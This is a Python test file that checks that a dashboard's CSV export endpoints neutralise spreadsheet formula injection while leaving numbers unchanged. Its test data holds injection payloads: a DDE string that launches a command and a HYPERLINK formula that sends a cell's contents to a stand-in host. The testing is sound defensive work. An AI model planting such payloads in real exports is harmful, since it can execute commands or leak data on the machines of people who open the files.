"""CSV formula injection: text a user recorded (event titles, locations, notes, official names) never comes out of
a CSV as a cell a spreadsheet would run, on every CSV endpoint; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.responses import csv_text, neutralise_cell
from db.commands import records
from db.commands.base import Actor
from db.session import Session

SECRETARIAT = Actor(user_id=None, name="Ana", role="secretariat")
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_cells_get_a_quote_and_numbers_stay_numbers():
    for text in FORMULAS:
        assert neutralise_cell(text) == "'" + text
    for value in (-2, -2.5, 0, 3, "-2", "-2.5", "+3", "-1e3", "Berlin", "", None, True):
        assert neutralise_cell(value) == value
    out = csv_text([{"title": "=1+1", "value": -2.5, "members": ["@a", "b"], "none": None}],
                   ["title", "value", "members", "none"], {"title": "x\n=2+2", "empty": ""})
    assert out == "# title: x =2+2\ntitle,value,members,none\n'=1+1,-2.5,'@a; b,\n"


def _cells(text: str) -> list[list[str]]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("# ")]
    return list(csv.reader(io.StringIO("".join(lines))))


def _assert_safe(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            if cell.startswith(DANGEROUS):
                float(cell)  # only a number may start so (a negative longitude, say)


@pytest.fixture
def hostile_store(app_store_copy):
    """The app's store with events and a member whose texts are formulas, recorded through the write commands."""
    with Session() as session, session.begin():
        for i, title in enumerate(FORMULAS):
            records.record_event(session, SECRETARIAT, {
                "title": title, "start_date": f"2020-11-{10 + i:02d}", "location": FORMULAS[(i + 1) % len(FORMULAS)],
                "kind": "learning", "metropolis_role": "organised", "region": "Europe", "members": ["Berlin"],
                "note": FORMULAS[(i + 2) % len(FORMULAS)]})
    with Session() as session, session.begin():
        records.update_member(session, SECRETARIAT, "berlin", {"official_name": FORMULAS[0],
                                                               "coord_note": FORMULAS[2]})
    return app_store_copy


@pytest.mark.parametrize("url", [
    "/api/v1/events?year=2020&format=csv",
    "/api/v1/events?year=2020&region=Europe&kind=learning&format=csv",
    "/export/events-timeline.csv?year=2020",
    "/export/events-per-month.csv?year=2020&kind=learning",
    "/api/v1/members?format=csv",
    "/api/v1/members?region=Europe&format=csv",
    "/export/members-map.csv?year=2020",
])
def test_every_csv_endpoint_neutralises_recorded_formulas(hostile_store, dash_app, url):
    response = dash_app.server.test_client().get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    _assert_safe(text)
    cells = {cell for row in _cells(text) for cell in row}
    if "members" in url:
        if "api" in url:
            assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells  # official name, coordinates note
        assert any(cell.startswith("-") and float(cell) < 0 for cell in cells)  # longitudes west of Greenwich
    else:
        # titles and locations (the write commands trim the tab and carriage return, then '=1+1' is left)
        assert {"'" + t.strip() for t in FORMULAS} <= cells
